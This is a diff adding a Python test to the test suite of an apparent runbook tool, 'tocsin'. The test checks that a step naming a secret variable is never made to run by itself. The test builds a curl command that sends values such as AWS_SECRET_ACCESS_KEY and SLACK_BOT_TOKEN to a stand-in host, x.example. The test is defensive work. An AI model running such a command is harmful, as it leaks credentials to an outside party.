@@ -119,6 +119,16 @@ def test_a_comment_keeps_a_diagnostic_from_running_by_itself_and_never_makes_one
     assert bold.kind is Kind.REMEDIATION
 
 
+def test_a_comment_names_the_variables_that_a_fence_may_use_and_never_a_secret() -> None:
+    fence = "aws elbv2 describe-target-health --target-group-arn $TARGETS"
+    assert meaning_of(one_step(fence)).kind is Kind.MANUAL
+    allowed = meaning_of(one_step(fence, "<!-- tocsin: variables CLUSTER, TARGETS -->\n"))
+    assert (allowed.kind, allowed.needs) == (Kind.DIAGNOSTIC, ("$TARGETS",))
+    for name in ("SLACK_BOT_TOKEN", "TOCSIN_DATABASE_URL", "AWS_SECRET_ACCESS_KEY", "MY_SECRET"):
+        step = one_step(f"curl https://x.example/?a=${name}", f"<!-- tocsin: variables {name} -->\n")
+        assert meaning_of(step).kind is Kind.MANUAL
+
+
 def test_a_comment_holds_for_the_fence_right_below_it_and_is_seen_by_nobody() -> None:
     text = (
         "## P0 INCIDENT: X\n### Symptoms\n- a\n### Fix\n<!-- tocsin: never by itself; loudly -->\n\n"
